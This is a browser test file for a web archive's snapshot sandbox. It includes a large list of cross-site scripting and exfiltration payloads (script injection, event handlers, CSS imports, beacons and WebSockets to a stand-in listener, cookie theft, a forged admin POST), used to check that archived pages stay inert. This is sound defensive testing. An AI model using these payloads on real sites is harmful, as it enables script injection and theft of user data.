"""Snapshots in a real browser: in place, inert, and reaching nothing."""

from __future__ import annotations

from datetime import timedelta

import pytest
from playwright.sync_api import Error, Frame, Page

from tests.browser.conftest import Listener, Seen
from tests.web.conftest import POST
from tests.web.library import KEEPER, MARCH, PASSWORD, Library

pytestmark = pytest.mark.browser

STAMP = "20260301120000"

# OUT is the listener; each payload tries to run a script or to reach it. Not one was copied from anywhere.
PAYLOADS = [
    "<script>document.title='ran';fetch('OUT/a')</script>",
    "<script src='OUT/a.js'></script>",
    "<script type=module>import 'OUT/a.js'</script>",
    "<script type=importmap>{\"imports\":{\"a\":\"OUT/a.js\"}}</script>",
    "<SCRIPT\n>document.title='ran'</SCRIPT\t>",
    "<scr<script>ipt>document.title='ran'</scr</script>ipt>",
    "<img src=x onerror=\"document.title='ran'\">",
    "<img src='OUT/a.png'><img srcset='OUT/b.png 1x, //OUTHOST/c.png 2x'>",
    "<img src='http:&#x2f;&#x2f;OUTHOST/d.png'><img src='\thttp://OUTHOST/e.png'><img src='http:\\\\OUTHOST\\f.png'>",
    "<picture><source srcset='OUT/a.png'><img src='OUT/b.png'></picture>",
    "<video src='OUT/a.mp4' poster='OUT/p.png' autoplay></video><audio src='OUT/a.mp3' autoplay></audio>",
    "<video><source src='OUT/a.mp4'><track src='OUT/t.vtt' default></video>",
    "<body onload=\"document.title='ran'\" background='OUT/b.gif'>",
    "<svg onload=\"document.title='ran'\"><script>document.title='ran'</script></svg>",
    "<svg><image href='OUT/a.png'/><use href='OUT/a.svg#x'/><feImage href='OUT/b.png'/></svg>",
    "<svg><a xlink:href=\"javascript:document.title='ran'\"><text y=20>x</text></a></svg>",
    "<svg><animate attributeName=href values=\"javascript:document.title='ran'\"/></svg>",
    "<svg><set attributeName=onmouseover to=\"document.title='ran'\"/></svg>",
    "<svg><style><img src=OUT/a onerror=\"document.title='ran'\"></style></svg>",
    "<svg><foreignObject><iframe src='OUT/a'></iframe></foreignObject></svg>",
    "<math><mi xlink:href=\"javascript:document.title='ran'\">x</mi></math>",
    "<math><mtext><table><mglyph><style><img src=OUT/a onerror=\"document.title='ran'\">",
    "<iframe src='OUT/a'></iframe><iframe srcdoc=\"<script>parent.document.title='ran'</script>\"></iframe>",
    "<iframe src=\"javascript:parent.document.title='ran'\"></iframe><iframe src='data:text/html,<script>1</script>'>",
    "<frameset><frame src='OUT/a'></frameset>",
    "<object data='OUT/a.swf'></object><embed src='OUT/b.swf'><applet code='OUT/c.class'></applet>",
    "<object data='data:text/html,<script>document.title=1</script>'></object>",
    "<link rel=stylesheet href='OUT/a.css'><link rel=icon href='OUT/i.png'><link rel=preload as=image href='OUT/p.png'>",
    "<link rel=prefetch href='OUT/a'><link rel=dns-prefetch href='//OUTHOST'><link rel=preconnect href='OUT'>",
    "<link rel=modulepreload href='OUT/m.js'><link rel=manifest href='OUT/m'><link rel='stylesheet prefetch' href='OUT/s'>",
    "<style>@import 'OUT/a.css'; @import url(OUT/b.css); body{background:url(OUT/c.png)}</style>",
    "<style>@font-face{font-family:x;src:url(OUT/f.woff)} body{font-family:x}</style>text",
    "<style>body{background:\\75 rl(OUT/a.png)} p{background:u\\72l('OUT/b.png')}</style><p>text",
    "<style>body{background:image-set('OUT/a.png' 1x)} p{content:url(OUT/b.png);cursor:url(OUT/c.cur),auto}</style><p>x",
    "<style>body{background:url(\"OUT/unclosed</style><p>text",
    "<p style=\"background:url('OUT/a.png');list-style-image:url(OUT/b.png)\">text</p>",
    "<p style='background:&#x75;rl(OUT/c.png)'>text</p>",
    "<meta http-equiv=refresh content='0;url=OUT/a'>",
    "<meta http-equiv=refresh content=\"0;url=javascript:document.title='ran'\">",
    "<meta http-equiv='Content-Security-Policy' content='script-src *'><script>document.title='ran'</script>",
    "<meta http-equiv=Set-Cookie content='stolen=1'>",
    "<base href='OUT/'><img src=a.png><link rel=stylesheet href=b.css>",
    "<base href='OUT/'><script src=c.js></script>",
    "<form action='OUT/a' method=post><input name=a value=1><button id=go>x</button></form>",
    "<form id=f></form><button form=f formaction='OUT/b' id=go>x</button>",
    "<input autofocus onfocus=\"document.title='ran'\"><details open ontoggle=\"document.title='ran'\">x</details>",
    "<marquee onstart=\"document.title='ran'\">x</marquee><dialog open onclose=\"document.title='ran'\">x</dialog>",
    "<a href=\"javascript:document.title='ran'\" id=go>x</a>",
    "<a href=\" &#14; javascript:document.title='ran'\" id=go>x</a>",
    "<a href='#' ping='OUT/ping' id=go>x</a>",
    "<a href='data:text/html,<script>1</script>' id=go>x</a>",
    "<a href='OUT/page' target=_blank id=popup>x</a>",
    "<area href=\"javascript:document.title='ran'\"><map name=m><area shape=default href='OUT/a'></map>",
    "<template shadowrootmode=open><style>@import 'OUT/s.css'</style><img src='OUT/a'></template>",
    "<div><template shadowrootmode=open><script>document.title='ran'</script></template></div>",
    "<noscript><p title='</noscript><img src=OUT/a onerror=1>'></noscript>",
    "<noscript><img src='OUT/ns.png'></noscript>",
    "<!--><script>document.title='ran'</script>-->",
    "<!--!><img src=OUT/a onerror=\"document.title='ran'\"><!-->",
    "<![CDATA[<script>document.title='ran'</script>]]>",
    "<textarea><script>document.title='ran'</script></textarea></title><title></textarea><img src=OUT/a onerror=1>",
    "<xmp><p title='</xmp><script>document.title=1</script>'>", "<plaintext><script>document.title='ran'</script>",
    "<select><option><script>document.title='ran'</script></select><table><script>document.title='ran'</script></table>",
    "<p id='\"><script>document.title=1</script>'>x", "<p \"><script>document.title='ran'</script>>x",
    "<portal src='OUT/a'></portal><fencedframe src='OUT/b'></fencedframe>",
    "<isindex action='OUT/a'><keygen><bgsound src='OUT/b.wav'>",
    "<script>navigator.sendBeacon('OUT/b');new WebSocket('ws://OUTHOST/');new Worker('OUT/w.js')</script>",
    "<script>navigator.serviceWorker.register('/sw.js')</script>", "<script>document.cookie='stolen=1'</script>",
    "<script>top.location='OUT/top'</script>", "<script>open('OUT/pop')</script>", "<script>alert(1)</script>",
    "<script>fetch('/admin/sources/1/crawl',{method:'POST'})</script>",
]  # fmt: skip

SVG = (
    "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>fetch('OUT/a')</script>"
    "<image href='OUT/b.png' width='9' height='9'/><text y='20'>svg</text></svg>"
)
XHTML = (
    "<html xmlns='http://www.w3.org/1999/xhtml'><head><title>t</title><script>document.title='ran'</script></head>"
    "<body><img src='OUT/a.png'/></body></html>"
)
XML = (
    "<?xml version='1.0'?><?xml-stylesheet type='text/xsl' href='OUT/a.xsl'?><?xml-stylesheet href='OUT/a.css'?>"
    "<x xmlns:h='http://www.w3.org/1999/xhtml'><h:script>document.title='ran'</h:script><h:img src='OUT/b.png'/></x>"
)
PARTS = "--b\r\nContent-Type: text/html\r\n\r\n<script>document.title='ran'</script>"
DOCUMENTS = [
    ("image/svg+xml", SVG),
    ("application/xhtml+xml", XHTML),
    ("text/xml", XML),
    ("text/plain", "<script>document.title='ran'</script><img src=OUT/a>"),
    ("", "<html><script>document.title='ran'</script><img src=OUT/a>"),
    ("application/json", '{"a": "<script>document.title=1</script>"}'),
    ("text/css", "@import 'OUT/a.css'; body { background: url(OUT/b.png) }"),
    ("text/javascript", "document.title='ran'"),
    ("multipart/x-mixed-replace; boundary=b", PARTS),
    ("text/html; charset=utf-7", "+ADw-script+AD4-document.title='ran'+ADw-/script+AD4-"),
    ("text/html; charset=utf-16", "<script>document.title='ran'</script>"),
]


def test_a_snapshot_is_in_place_behind_its_bar(page: Page, site: str, seen: Seen) -> None:
    answer = page.goto(f"{site}/web/{STAMP}/{POST}", wait_until="networkidle")
    assert answer is not None
    assert answer.headers["memento-datetime"] == "Sun, 01 Mar 2026 12:00:00 GMT"
    assert "Snapshot of 1 March 2026, 12:00 UTC" in page.inner_text("header")
    frame = document_of(page)
    assert "The first telling of the ferry" in frame.inner_text("body")
    assert frame.evaluate("document.images[0].naturalWidth") == 1
    assert "boat.png" in str(frame.evaluate("getComputedStyle(document.body).backgroundImage"))
    assert frame.title() == "Ferries in the fog"
    assert seen.failed == []
    assert [line for line in seen.console if "Refused" in line or "blocked" in line.lower()] == []
    assert all(url.startswith(f"{site}/") for url in seen.requests)


def test_a_link_in_a_snapshot_changes_the_page_and_its_bar(page: Page, site: str) -> None:
    page.goto(f"{site}/web/{STAMP}/{POST}")
    document_of(page).click("text=another")
    page.wait_for_url("**/2026/01/layl.html")
    assert "layl.html" in page.inner_text("header .address")
    assert "أكتب هذه السطور" in document_of(page).inner_text("body")


def test_earlier_and_later_lead_through_the_captures(page: Page, site: str) -> None:
    page.goto(f"{site}/web/{STAMP}/{POST}")
    page.click("text=Later ›")
    page.wait_for_url(f"**/web/20260303120000/{POST}")
    assert "second telling" in document_of(page).inner_text("body")
    page.click("text=‹ Earlier")
    page.wait_for_url(f"**/web/{STAMP}/{POST}")


def test_the_raw_form_is_downloaded(page: Page, site: str) -> None:
    page.goto(f"{site}/web/{STAMP}/{POST}")
    with page.expect_download() as download:
        page.click("text=Raw")
    assert download.value.suggested_filename == f"{STAMP}-ferries.html"


def test_what_is_not_held_leads_to_the_live_web(page: Page, site: str, outside: Listener) -> None:
    page.goto(f"{site}/web/2026/{outside.url}/gone")
    assert "Not in this archive" in page.inner_text("main")
    page.click("text=Open it on the live web")
    page.wait_for_url(f"{outside.url}/gone")
    outside.heard.clear()


@pytest.fixture(scope="module")
def hostile(archive: Library, outside: Listener) -> list[str]:
    """The payloads, archived; their addresses."""
    host = outside.url.removeprefix("http://")
    urls = []
    for number, payload in enumerate(PAYLOADS):
        url = f"https://evil.example/{number}.html"
        body = payload.replace("OUTHOST", host).replace("OUT", outside.url)
        archive.keep(url, f"<!doctype html><title>inert</title><p>marker</p>{body}")
        urls.append(url)
    for number, (mime, body) in enumerate(DOCUMENTS):
        url = f"https://evil.example/document-{number}"
        headers = [
            ("Refresh", f"0;url={outside.url}/r"),
            ("Set-Cookie", "stolen=1"),
            ("Link", f"<{outside.url}/l>;rel=preload"),
        ]
        archive.keep(url, body.replace("OUT", outside.url), mime=mime or None, headers=headers)
        urls.append(url)
    return urls


@pytest.mark.parametrize("form", ["", "mp_", "im_"])
def test_no_payload_runs_or_reaches_out(
    page: Page, site: str, seen: Seen, hostile: list[str], outside: Listener, form: str
) -> None:
    page.goto(f"{site}/admin/")
    page.fill("input[name=name]", KEEPER)
    page.fill("input[name=password]", PASSWORD)
    page.click("main button")
    page.wait_for_url(f"{site}/admin/")
    cookies = page.context.cookies()
    outside.heard.clear()
    documents = hostile[-len(DOCUMENTS) :]
    # The document is the same in each form: all payloads in one, some in the frame, other types in all three.
    for url in {"mp_": hostile, "": hostile[::5] + documents, "im_": documents}[form]:
        address = f"{site}/web/{STAMP}{form}/{url}"
        seen.requests.clear()
        try:
            page.goto(address, wait_until="load")
        except Error as error:
            assert "Download is starting" in str(error)  # noqa: PT017 - a file is saved, not shown
            continue
        for frame in page.frames:
            assert "ran" not in frame.title()
            for button in frame.query_selector_all("#go"):
                button.click(force=True, no_wait_after=True)
        popups = [link for frame in page.frames for link in frame.query_selector_all("#popup")]
        assert all(link.get_attribute("target") == "_top" for link in popups)
        page.wait_for_timeout(20)
        assert page.url.split("#")[0] == address, url
        sent = set(seen.requests) - set(seen.failed)  # what the policy has stopped was never sent
        assert all(request.startswith((f"{site}/web/", f"{site}/static/", "data:")) for request in sent), url
        assert seen.dialogs == [], url
        assert outside.heard == [], url
        assert len(page.context.pages) == 1
    assert page.context.cookies() == cookies


def test_the_bar_can_not_be_covered_or_changed_by_the_page(page: Page, site: str, archive: Library) -> None:
    url = "https://evil.example/cover"
    archive.keep(
        url,
        "<style>header, .bar-top, body * { display: none !important } div.x { all: unset; display: block !important; "
        "position: fixed; inset: -500px; z-index: 2147483647; background: red }</style>"
        '<div class="x">Snapshot of 1 January 1999</div>',
    )
    page.goto(f"{site}/web/{STAMP}/{url}", wait_until="networkidle")
    bar = page.locator("header.bar-top")
    assert bar.is_visible()
    on_top = "([x, y]) => document.elementFromPoint(x, y).closest('header') !== null"
    box = bar.bounding_box()
    assert box is not None
    assert box["y"] == 0
    frame_box = page.locator("iframe").bounding_box()
    assert frame_box is not None
    assert frame_box["y"] >= box["y"] + box["height"]
    for x in (10, 600, 1270):
        assert page.evaluate(on_top, [x, box["height"] / 2])


@pytest.mark.parametrize("taken", ["headers", "rewriting"])
def test_each_wall_holds_alone(
    page: Page, site: str, archive: Library, outside: Listener, seen: Seen, taken: str
) -> None:
    """With the policy taken away the rewriting holds; with the rewriting taken away the policy does."""
    body = (
        "<title>inert</title><script>document.title='ran'</script>"
        f"<img src='{outside.url}/a.png' onerror=\"document.title='ran'\">"
        f"<style>@import '{outside.url}/b.css';</style><link rel=stylesheet href='{outside.url}/c.css'>"
    )
    url = f"https://evil.example/alone-{taken}"
    archive.keep(url, body, at=MARCH + timedelta(days=1))
    client = archive.client()
    answer = client.get(f"/web/20260302120000/{url}", base_url=site)
    policy = answer.headers["Content-Security-Policy"]
    outside.heard.clear()

    def fulfil(html: str, headers: dict[str, str]) -> None:
        page.route(
            "**/walled",
            lambda route: route.fulfill(body=html, headers={"Content-Type": "text/html", **headers}),
        )
        page.goto(f"{site}/walled", wait_until="load")
        page.wait_for_timeout(100)

    if taken == "headers":
        fulfil(answer.text, {})
    else:
        fulfil(body, {"Content-Security-Policy": policy})
    assert page.title() == "inert"
    assert outside.heard == []


def document_of(page: Page) -> Frame:
    """The snapshot within the page."""
    page.wait_for_load_state("networkidle")
    return page.frames[1]
